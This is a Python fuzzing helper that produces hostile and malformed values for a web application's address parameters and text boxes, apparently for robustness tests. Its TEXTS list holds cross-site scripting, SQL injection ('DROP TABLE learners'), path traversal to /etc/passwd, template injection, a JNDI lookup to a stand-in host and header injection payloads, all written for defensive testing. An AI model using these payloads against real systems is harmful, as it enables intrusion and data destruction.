"""What someone may put into the address or a text box who means no good, or whose mail program did.

`values(key, n, seed)` gives `n` values for a key of the address, `TEXTS` the classics by name.
"""

from __future__ import annotations

import random
from urllib.parse import quote

TEXTS = {
    "script": "<script>window.hit=1</script>",
    "image": "<img src=x onerror=window.hit=1>",
    "attribute": '" onmouseover="window.hit=1" x="',
    "style": "</style><style>*{display:none}",
    "markdown link": "[a](javascript:window.hit=1)",
    "markdown image": "![](//a.example/x)",
    "html entity": "&lt;script&gt;&#0;",
    "latex": r"$\href{javascript:hit()}{x}$",
    "colour": ":red[a] :material/home:",
    "format": "{0.__class__} %s %(x)s ${x} {value}",
    "quotes": "'; DROP TABLE learners; --",
    "path": "../../../../etc/passwd",
    "template": "{{7*7}} ${{7*7}} #{7*7}",
    "lookup": "${jndi:ldap://a.example/x}",
    "nul": "a\x00b",
    "line ends": "a\r\nSet-Cookie: x=1\r\n\r\n",
    "right to left": "\u202egpj.exe",
    "no width": "\u200b\u200d\ufeff",
    "combining": "Z̶̡͖͗a̷͔̿l̵̻̈́g̴̯̾o̶̝̔" * 20,
    "emoji": "👩🏽‍🚀" * 9,
    "surrogate": "\ud800",
    "not a character": "\uffff\ufffe",
    "twice encoded": "%253Cscript%253E",
    "over-long": "x" * 5_000,
}
NUMBERS = [
    *("nan", "NaN", "inf", "-inf", "Infinity", "1e999", "-1e999", "1e-400", "-0", "-1", "+1", "01"),
    *(
        "0x10",
        "1_000",
        "1,5",
        "1.5.2",
        ".",
        "e5",
        "1e",
        "٣",
        "७",
        "１",
        "½",
        "∞",
        "1j",
        "True",
        "None",
    ),
    *(
        "9" * 400,
        "0." + "0" * 400 + "1",
        "null",
        "undefined",
        "[]",
        "{}",
        "()",
        "1 2",
        " 1",
        "1 ",
        "",
    ),
]
MEGABYTE = 1_000_000


def values(key: str, count: int, seed: int = 0) -> list[str]:
    """Return `count` values for a key: wrong types and sizes, and sound ones that were damaged."""
    chance = random.Random(f"{key} {seed}")
    fixed = [*TEXTS.values(), *NUMBERS, *map(quote_all, TEXTS.values()), *big()]
    return [
        fixed[i] if i < len(fixed) else chance.choice(_MAKERS)(key, chance) for i in range(count)
    ]


def any_value(key: str, chance: random.Random) -> str:
    """Return one value for a key, as an address can carry it (no half of a surrogate pair)."""
    value = chance.choice([*TEXTS.values(), *NUMBERS, *(make(key, chance) for make in _MAKERS)])
    return value.encode("utf-8", "replace").decode()


def quote_all(text: str) -> str:
    """Encode a text as an address does, whatever it holds."""
    return quote(text.encode("utf-8", "surrogatepass"))


def big(size: int = MEGABYTE) -> list[str]:
    """Return a few values of this many characters."""
    return [
        "x" * size,
        "|" * size,
        "a|" * (size // 2),
        ".1," * (size // 3),
        "1" * size,
        "a:b|" * (size // 4),
    ]


def _noise(key: str, chance: random.Random) -> str:
    return "".join(chr(chance.randrange(1, 0xD800)) for _ in range(chance.randrange(40)))


def _ascii(key: str, chance: random.Random) -> str:
    return "".join(chr(chance.randrange(128)) for _ in range(chance.randrange(40)))


def _list_of(key: str, chance: random.Random) -> str:
    separator = chance.choice("|,;: \t")
    parts = [*TEXTS.values(), *NUMBERS, "a", "b", ".5", ".25", "0", "1"]
    return separator.join(chance.choice(parts) for _ in range(chance.randrange(1, 16)))


def _number(key: str, chance: random.Random) -> str:
    kind = chance.choice(("{:d}", "{:.3f}", "{:e}", "{:x}", "-{:d}", "{:d}.", "{:,d}"))
    value = chance.randrange(10 ** chance.randrange(1, 20))
    return kind.format(value if "d" in kind or "x" in kind else float(value))


def _damaged(key: str, chance: random.Random) -> str:
    sound = {
        "words": "red|green|blue",
        "p": ".5,.3,.2",
        "q": ".2,.5,.3",
        "answers": "draft-how-many:b|math-what-z:skip",
        "done": "draft|math",
        "hide": "nav|table",
        "fault": "resample-target",
        "view": "present",
    }.get(key, str(chance.randrange(10)))
    letters = list(sound)
    for _ in range(chance.randrange(1, 4)):
        place = chance.randrange(len(letters) + 1)
        letters[place:place] = chance.choice(["|", ",", "<", ".", "-", "\u200b", "9", "é", " "])
    return "".join(letters)


_MAKERS = (_noise, _ascii, _list_of, _number, _damaged)
